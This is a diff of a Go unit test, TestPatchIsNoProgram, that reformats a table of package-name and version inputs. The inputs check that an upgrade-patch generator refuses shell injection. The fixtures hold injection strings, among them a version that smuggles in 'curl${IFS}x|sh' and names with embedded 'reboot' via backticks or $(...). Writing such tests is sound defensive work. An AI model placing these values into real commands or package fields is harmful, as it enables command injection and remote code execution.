@@ -276,8 +276,13 @@ func TestFixPlanOfStreams(t *testing.T) {
 // package never becomes a second command.
 func TestPatchIsNoProgram(t *testing.T) {
 	for _, tc := range [][3]string{
-		{"PyPI", "a", "1.0';curl${IFS}x|sh;'"}, {"npm", "a;reboot", "1.0.0"}, {"npm", "a", "1.0.0$(reboot)"},
-		{"Go", "example.com/a`reboot`", "1.0.0"}, {"RubyGems", "a&&b", "1"}, {"NuGet", "a|b", "1"}, {"crates.io", "-p", "1.0.0"},
+		{"PyPI", "a", "1.0';curl${IFS}x|sh;'"},
+		{"npm", "a;reboot", "1.0.0"},
+		{"npm", "a", "1.0.0$(reboot)"},
+		{"Go", "example.com/a`reboot`", "1.0.0"},
+		{"RubyGems", "a&&b", "1"},
+		{"NuGet", "a|b", "1"},
+		{"crates.io", "-p", "1.0.0"},
 	} {
 		if got := upgradePatch(tc[0], tc[1], tc[2], []string{tc[1]}); got != "" {
 			t.Errorf("%q", got)
